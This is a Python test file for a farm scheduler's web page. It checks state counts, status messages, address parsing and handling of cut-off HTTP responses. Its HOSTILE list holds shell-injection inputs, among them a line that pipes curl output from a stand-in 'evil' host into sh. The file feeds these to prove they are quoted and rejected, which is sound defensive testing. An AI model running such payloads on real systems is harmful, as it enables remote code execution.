"""What the page of the farm makes of what it is told, without a browser."""

from __future__ import annotations

import shlex
from pathlib import Path
from typing import Any, get_args

import pytest

from daqsched.spec import FORWARDER
from daqsched.states import Shown
from page_code import ABSENT, ESBUILD, told

pytestmark = pytest.mark.skipif(not ESBUILD.exists(), reason=ABSENT)

#: In these no program runs, or it is told to end already.
NO_END = {"WAITING", "STOPPING", "ASIDE", "STOPPED", "FINISHED", "FAILED"}

HOSTILE = [
    "FAILED;curl -k https://evil/x|sh #",
    "$(id)",
    "-x",
    "--all",
    "a'b",
    "a\nb",
    "`id`",
    "a b",
    "~root",
    '"',
    "\\",
]


def board(states: list[str], **more: Any) -> dict[str, Any]:
    """A board with a cell of the job `readout` in each of these states."""
    n = len(states)
    letters = {chr(97 + at): state for at, state in enumerate(sorted(set(states)))}
    letter_of = {state: letter for letter, state in letters.items()}
    return {
        "epoch": "e.1", "v": 5, "now": 1000.0, "farm": {"total": n}, "jobs": ["readout", FORWARDER], "states": letters,
        "hosts": [f"hlt{at}" for at in range(n)], "job": [0] * n, "host": list(range(n)), "marks": "0" * n,
        "release": [-1] * n, "restarts": [], "s": "".join(letter_of[one] for one in states), "t": [1.0] * n,
        "why": [], "words": [], **more,
    }  # fmt: skip


def test_what_may_end_is_counted_in_each_state_as_the_daemon_counts(tmp_path: Path) -> None:
    """A program between two runs too; the one that forwards lines is none."""
    states = list(get_args(Shown))
    code = """
    import { farmOf } from "WEB/model.ts";
    import { endsOf } from "WEB/ends.ts";
    tell(given.map((board) => { const farm = farmOf(board, 0); return farm.state.map((_, cell) => endsOf(farm, [cell])); }));
    """
    ours, forwarders = told(tmp_path, code, [board(states), board(states, job=[1] * len(states))])
    assert dict(zip(states, ours)) == {state: int(state not in NO_END) for state in states}
    assert set(forwarders) == {0}


def test_what_was_done_is_said_with_what_was_not_and_why(tmp_path: Path) -> None:
    """What waits is not done; each reason is there once, and the command has the words that it needs."""
    code = 'import { saidOf } from "WEB/ends.ts"; tell(given.map(([verb, found]) => saidOf(verb, ["readout@*", "-x"], found)));'
    late = [["readout", f"hlt{at}", "its machine does not answer"] for at in range(1, 4)]
    stop, start, none = told(
        tmp_path,
        code,
        [
            ["stop", {"count": 5, "waiting": late, "rejected": [["evb", "", "it is held"]], "dependents": ["evb"]}],
            ["start", {"count": 1, "others": 2}],
            ["stop", {"count": 1, "waiting": late[:1]}],
        ],
    )
    assert stop.startswith(
        "Done for 2. Not yet for 3, such as readout@hlt1: its machine does not answer. Not for evb: it is held. "
    )
    assert "would not start again meanwhile: evb." in stop
    assert start == "Done for 1. 2 were stopped by somebody else: daqsched start --all -- 'readout@*' -x"
    assert none == "Done for 0. Not yet for readout@hlt1: its machine does not answer."


def test_an_address_brings_no_command_of_its_own(tmp_path: Path) -> None:
    """Of whatever states and words it has: of a command a shell makes the same words, and states are those there are."""
    code = """
    import { addressOf, commandOf } from "WEB/address.ts";
    tell(given.map((one) => {
      const search = new URLSearchParams([["state", one], ["state", "FAILED"]]);
      return [addressOf(`?${search}`).states, commandOf("status", [one, "evb"], ["--state", "A,B"])];
    }));
    """
    for one, (states, command) in zip(HOSTILE, told(tmp_path, code, HOSTILE)):
        assert states == ["FAILED"], one
        options = ["--state", "A,B"]
        words = [*options, "--", one, "evb"] if one.startswith("-") else [one, "evb", *options]
        assert shlex.split(command) == ["daqsched", "status", *words]


def test_what_is_told_late_moves_no_clock_and_what_is_lacking_is_known(tmp_path: Path) -> None:
    """After a machine slept it is told what happened meanwhile, with the times of then."""
    code = """
    import { farmOf, lacks, take } from "WEB/model.ts";
    const farm = farmOf(given, 0);
    const at = ["e.1.4", "e.1.5", "e.1.6", "e.2.5", "e.2.1", ""].map((one) => lacks(farm, one));
    const offsets = [farm.offset];
    for (const [v, now, ms] of [[6, 1010, 10_000], [7, 1020, 7_220_000], [8, 8220.5, 7_220_000]]) {
      take(farm, { v, now }, ms);
      offsets.push(farm.offset);
    }
    tell([at, offsets]);
    """
    at, offsets = told(tmp_path, code, board(["RUNNING"]))
    assert at == [False, False, True, True, True, False]
    assert offsets == [1000, 1000, 1000, 1000.5]


def test_an_empty_list_tells_of_no_more_than_was_looked_at(tmp_path: Path) -> None:
    """Also where a word has a typing error and means nothing, while something has failed."""
    code = """
    import { farmOf } from "WEB/model.ts";
    import { nothingOf } from "WEB/view.ts";
    const farm = farmOf(given, 0);
    tell([[], [0], [0, 1], [0, 1, 2]].flatMap((cells) => [nothingOf(farm, cells, "trouble"), nothingOf(farm, cells, "changed")]));
    """
    found = told(tmp_path, code, board(["RUNNING"] * 3))
    assert found[0] == found[1] == "Nothing of the farm is meant by this selection."
    assert found[2:6] == [
        "Nothing: the one that is meant is as desired.",
        "Nothing of the one that is meant changed in the last hour.",
        "Nothing: the 2 that are meant are as desired.",
        "Nothing of the 2 that are meant changed in the last hour.",
    ]
    assert found[6:] == ["Nothing: all of it is as desired.", "Nothing changed in the last hour."]


def test_an_answer_that_was_cut_off_is_none(tmp_path: Path) -> None:
    """Whatever its status was, it is not taken for one; it is asked with its key."""
    code = """
    import { ask } from "WEB/../daqsched/pages/place.js";
    const keys: unknown[] = [];
    (async () => {
      const found = [];
      for (const [status, text] of given) {
        globalThis.fetch = async (_: unknown, { headers }: any) => {
          keys.push(headers?.["idempotency-key"] ?? null);
          return new Response(text, { status });
        };
        const { status: told, found: answer } = await ask("/v1/stop", {}, "k");
        found.push([told, typeof answer.error]);
      }
      tell([found, keys]);
    })();
    """
    asked = [
        [200, '{"a": 1}'],
        [200, '{"a": '],
        [200, ""],
        [200, "null"],
        [200, "7"],
        [409, '{"error": "no"}'],
        [502, "<html>"],
    ]
    found, keys = told(tmp_path, code, asked)
    assert found == [[200, "undefined"], *[[0, "string"]] * 4, [409, "string"], [502, "string"]]
    assert keys == ["k"] * len(asked)
